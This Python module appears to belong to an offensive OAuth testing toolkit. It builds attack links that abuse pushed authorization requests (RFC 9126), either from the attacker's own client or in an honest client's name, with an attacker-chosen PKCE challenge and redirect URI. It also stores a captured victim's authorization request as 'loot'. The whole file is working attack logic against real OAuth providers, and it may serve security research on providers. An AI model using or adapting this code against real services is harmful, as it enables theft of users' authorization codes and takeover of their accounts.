"""What an attacker does with authorization requests that are pushed (RFC 9126)."""

from urllib.parse import urlencode

from attacker.hunt import Method
from attacker.loot import LootItem, NothingCapturedError
from attacker.own_client import OWN_CLIENT_ID, OWN_REDIRECT_URI
from attacker.thief import Thief
from attacker.token_request import member
from attacker.vantage import Leg


async def link_to_own_push(thief: Thief) -> str:
    """A link that names the honest client, and a request that the thief's own app has pushed.

    The challenge is the thief's own, and so is the redirect URI. Raises
    :class:`NothingCapturedError` when the provider does not take what the app may push.
    """
    return await _link_to_push(thief, OWN_CLIENT_ID, OWN_REDIRECT_URI)


async def link_to_push_as_client(thief: Thief) -> str:
    """A link to a request that the thief has pushed in the honest client's name.

    The challenge is the thief's own. Raises :class:`NothingCapturedError` when the provider asks
    for more than the name, or the thief does not know where the client has its codes sent.
    """
    return await _link_to_push(thief, await _client_id(thief), thief.known_redirect_uri())


async def _link_to_push(thief: Thief, pusher: str, redirect_uri: str) -> str:
    carried = {"client_id": await _client_id(thief)}
    pushed = {
        "client_id": pusher,
        "redirect_uri": redirect_uri,
        "response_type": "code",
        "scope": "openid profile",
        "code_challenge": await thief.verifiers.choose(),
        "code_challenge_method": Method.S256,
    }
    endpoint = thief.metadata["pushed_authorization_request_endpoint"]
    answer = await thief.http.post(endpoint, data=pushed)
    reference = member(answer, "request_uri")
    if reference is None:
        raise NothingCapturedError("the provider took no request that the thief has pushed")
    carried["request_uri"] = reference
    link = f"{thief.metadata['authorization_endpoint']}?{urlencode(carried)}"
    _kept(thief, link, thief.own_exchange, "with a reference of its own")
    return link


async def _client_id(thief: Thief) -> str:
    await thief.study_client()
    return thief.loot.need("client_id", Leg.OWN).value


def written_out(thief: Thief) -> dict[str, str | None]:
    """What makes of a reference a request that says all by itself, in the honest client's name.

    For whoever has signed in at the client before, and so knows where it has its codes sent.
    """
    return {
        "request_uri": None,
        "response_type": "code",
        "redirect_uri": thief.known_redirect_uri(),
        "scope": "openid profile",
    }


def request_of_the_victim(thief: Thief) -> LootItem:
    """The victim's authorization request, as it was seen.

    Raises :class:`NothingCapturedError`.
    """
    for seen in reversed(thief.loot.sightings):
        if seen.leg is Leg.AUTHORIZATION_REQUEST:
            return _kept(thief, seen.text, seen.seen_in, seen.where)
    raise NothingCapturedError("the thief never saw an authorization request of the victim's")


def _kept(thief: Thief, url: str, seen_in: str, where: str) -> LootItem:
    return thief.loot.add(LootItem("authorization_request", url, Leg.OWN, seen_in, where))
